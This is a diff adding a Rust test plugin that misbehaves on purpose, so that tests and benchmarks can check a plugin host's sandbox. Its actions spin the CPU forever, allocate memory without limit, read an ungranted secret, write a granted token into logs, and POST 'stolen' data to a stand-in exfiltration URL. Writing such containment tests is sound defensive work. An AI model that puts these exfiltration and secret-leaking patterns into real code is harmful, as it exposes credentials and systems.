@@ -1,1 +1,114 @@
+//! A test-only provider plugin that misbehaves on request.
+//!
+//! Each action provokes one thing the host's sandbox must contain; `noop`
+//! behaves, so tests can check that the host still serves the next action,
+//! and benchmarks can measure the host's own per-action overhead.
 
+use cordon_plugin_sdk::prelude::*;
+use std::hint::black_box;
+
+struct Misbehave;
+
+const ALL_KINDS: &[IdentityKind] = &[
+    IdentityKind::User,
+    IdentityKind::ServiceAccount,
+    IdentityKind::Role,
+    IdentityKind::AccessKey,
+    IdentityKind::Token,
+    IdentityKind::Certificate,
+    IdentityKind::Session,
+    IdentityKind::Workload,
+    IdentityKind::Agent,
+    IdentityKind::Secret,
+    IdentityKind::Account,
+];
+
+impl Provider for Misbehave {
+    fn describe() -> PluginInfo {
+        let action = |name: &str, description: &str| {
+            Action::new(name, Effect::Quarantine, ALL_KINDS, description)
+        };
+        PluginSpec::new("test", env!("CARGO_PKG_VERSION"))
+            .secret("token", false, "a secret the plugin is granted in tests")
+            .config("ungranted_url", false, "where call-ungranted-host sends its request")
+            .action(action("noop", "does nothing and reports applied").param(
+                "note",
+                false,
+                "echoed back as evidence",
+            ))
+            .action(action("loop-forever", "spins the CPU forever"))
+            .action(action("sleep-forever", "waits on a timer forever, using no CPU"))
+            .action(action("allocate-unbounded", "allocates memory until stopped"))
+            .action(action("call-ungranted-host", "sends a request to a host it was not granted"))
+            .action(action("read-ungranted-secret", "asks for a secret it was not granted"))
+            .action(action("log-secret", "writes its granted secret to the log and its outcome"))
+            .action(action("panic", "panics"))
+            .build()
+    }
+
+    fn execute(request: ActionRequest) -> Result<ActionOutcome, ProviderError> {
+        match request.action.as_str() {
+            "noop" => {
+                let mut outcome = Outcome::applied(format!("nothing done to {}", request.target.id))
+                    .evidence("target", request.target.id.clone());
+                if let Some(note) = request.param("note") {
+                    outcome = outcome.evidence("note", note);
+                }
+                if request.dry_run {
+                    outcome = Outcome::planned("would do nothing");
+                }
+                outcome.done()
+            }
+            "loop-forever" => {
+                let mut counter: u64 = 0;
+                loop {
+                    counter = black_box(counter.wrapping_add(1));
+                }
+            }
+            "sleep-forever" => {
+                cordon_plugin_sdk::wstd::runtime::block_on(async {
+                    loop {
+                        cordon_plugin_sdk::wstd::task::sleep(cordon_plugin_sdk::wstd::time::Duration::from_secs(3600)).await;
+                    }
+                })
+            }
+            "allocate-unbounded" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![1u8; 1 << 20]);
+                    black_box(&hoard);
+                }
+            }
+            "call-ungranted-host" => {
+                let url = config_or("ungranted_url", "http://198.51.100.7/exfiltrate");
+                let response = Request::post(url).body("stolen").send()?;
+                Outcome::applied(format!("sent, got {}", response.status)).done()
+            }
+            "read-ungranted-secret" => {
+                let value = secret("not-granted")?;
+                Outcome::applied(format!("read {} bytes", value.len())).done()
+            }
+            "log-secret" => {
+                let value = secret("token")?;
+                log::warn(&format!("the token is {value}"));
+                Outcome::applied(format!("token={value}"))
+                    .evidence("token", value)
+                    .done()
+            }
+            "panic" => panic!("misbehave plugin panicked on purpose"),
+            other => Err(invalid(format!("unknown action `{other}`"))),
+        }
+    }
+
+    fn inspect(target: Identity) -> Result<IdentityFacts, ProviderError> {
+        Ok(IdentityFacts {
+            owner: target.attribute("owner").map(str::to_string),
+            workload: None,
+            issuer: Some("test".into()),
+            used_by: None,
+            attributes: Vec::new(),
+        })
+    }
+}
+
+cordon_plugin_sdk::export_provider!(Misbehave);
